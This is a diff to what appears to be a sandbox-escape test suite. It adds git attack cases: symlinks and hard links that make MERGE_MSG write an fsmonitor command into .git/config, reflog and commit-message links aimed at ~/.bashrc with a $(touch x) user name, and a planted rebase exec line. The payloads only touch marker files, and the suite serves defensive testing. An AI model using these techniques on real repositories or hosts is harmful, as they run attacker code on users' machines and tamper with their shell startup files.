@@ -272,6 +272,30 @@ objects-disguise|mkdir -p .git/objects/e/objects .git/objects/e/refs sub; cp .gi
 logs-move|mkdir -p .git/logs/e/objects .git/logs/e/refs; cp .git/HEAD .git/logs/e/HEAD; CFG >.git/logs/e/config; mkdir sub; mv .git/logs/e sub/.git
 LIST
 
+# A link among git's files: git outside writes through it, and the command says what.
+fsm='printf "[core]\n\tfsmonitor = \"touch %s;false\"\n" $PWN'
+while IFS='|' read -r id do; do
+	attack "git.link.$id" "a link that leads to the config: $id" \
+		do="git switch -q -c b; echo 1 >f; git add f; $fsm >m; git commit -q --cleanup=verbatim -F m; git switch -q main; echo 2 >f; git add f; git commit -q -m f; $do" \
+		harm='host_git "$W" cherry-pick b >/dev/null 2>&1; git_ran' event='file-* */.git/MERGE_MSG'
+done <<'LIST'
+symlink|ln -s config .git/MERGE_MSG
+rename|ln -s config l; mv l .git/MERGE_MSG
+hard-link-of-it|ln -s config l; ln -P l .git/MERGE_MSG
+exchange|echo x >.git/MERGE_MSG; ln -s config aux.l; /usr/bin/python3 -c 'import ctypes; ctypes.CDLL(None).syscall(316, -100, b"aux.l", -100, b".git/MERGE_MSG", 2)'
+LIST
+while IFS='|' read -r id do; do
+	attack "git.link.$id" "a link that leads out of the workspace: $id" setup='echo "# mine" >"$H/.bashrc"; remember "$H/.bashrc"' \
+		do="git config user.name '\$(touch x)'; $do" \
+		harm='host_git "$W" commit -q --allow-empty -m x; changed "$H/.bashrc"' event='file-* */.git/*'
+done <<'LIST'
+reflog|ln -sf $H/.bashrc .git/logs/HEAD
+reflog-of-branch|ln -sf $H/.bashrc .git/logs/refs/heads/main
+message|ln -sf $H/.bashrc .git/COMMIT_EDITMSG
+LIST
+attack git.link.directory 'a directory of reflogs that lies in the home' \
+	do='rm -rf .git/logs; ln -s $H .git/logs' harm='host_git "$W" commit -q --allow-empty -m x; made "$H/HEAD"'
+
 # A rebase that was left half-way and continues outside.
 attack git.plant.rebase-continue 'an exec line left in a rebase runs when the user continues' \
 	do='echo 1 >n; git add n; git commit -q -m n; mkdir -p .git/rebase-merge; git rev-parse HEAD >.git/rebase-merge/onto; git rev-parse HEAD >.git/rebase-merge/orig-head; echo refs/heads/main >.git/rebase-merge/head-name; : >.git/rebase-merge/done; : >.git/rebase-merge/interactive; echo 1 >.git/rebase-merge/msgnum; echo 1 >.git/rebase-merge/end; printf "exec touch %s\n" $PWN >.git/rebase-merge/git-rebase-todo' \
